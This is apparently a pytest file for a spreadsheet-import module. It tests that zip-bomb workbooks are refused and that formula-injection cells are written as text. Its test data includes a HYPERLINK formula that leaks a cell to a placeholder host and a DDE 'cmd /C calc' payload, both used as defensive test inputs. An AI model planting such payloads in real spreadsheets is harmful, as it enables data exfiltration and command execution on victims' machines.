"""Spreadsheets from strangers: bombs refused unread, formulas never written live."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planwatch.core.errors import DatasetError
from planwatch.core.spreadsheet import MAX_PART_BYTES, check_archive, safe_cell
from tests.spreadsheets import bomb, workbook_bytes


def test_a_workbook_a_person_typed_passes_and_its_stream_is_left_at_the_start():
    stream = io.BytesIO(workbook_bytes())
    stream.read(10)
    check_archive(stream, name="表.xlsx")
    assert stream.tell() == 0


def test_a_part_that_decompresses_beyond_the_limit_is_refused_before_it_is_read():
    stream = bomb(MAX_PART_BYTES + 1024 * 1024)
    with pytest.raises(DatasetError, match=r"xl/sharedStrings\.xml 解压后"):
        check_archive(stream, name="表.xlsx")
    assert len(stream.getvalue()) < MAX_PART_BYTES // 100  # small on the wire


def test_a_part_compressed_a_thousand_times_is_refused_even_under_the_size_limit():
    with pytest.raises(DatasetError, match="压缩比"):
        check_archive(bomb(8 * 1024 * 1024), name="表.xlsx")


def test_a_part_compressed_with_an_unbounded_method_is_refused(tmp_path: Path):
    path = tmp_path / "bz.xlsx"
    path.write_bytes(bomb(1024 * 1024, method=zipfile.ZIP_BZIP2).getvalue())
    with pytest.raises(DatasetError, match="不支持的压缩方式"):
        check_archive(path, name=path.name)


def test_a_file_that_is_no_zip_is_not_a_workbook():
    with pytest.raises(DatasetError, match="不是 Excel 工作簿"):
        check_archive(io.BytesIO(b"name,value\n"), name="表.xlsx")


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("http://x/?leak="&B3,"点击查看")',
            '\'=HYPERLINK("http://x/?leak="&B3,"点击查看")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3.5", "-3.5"),
        ("+7", "+7"),
        ("区统计局", "区统计局"),
        ("a\x00b\x1fc", "abc"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(typed, written):
    assert safe_cell(typed) == written


@given(st.text())
def test_no_safe_text_cell_begins_with_a_formula_sign_unless_it_is_a_plain_number(text):
    cell = safe_cell(text)
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(cell)
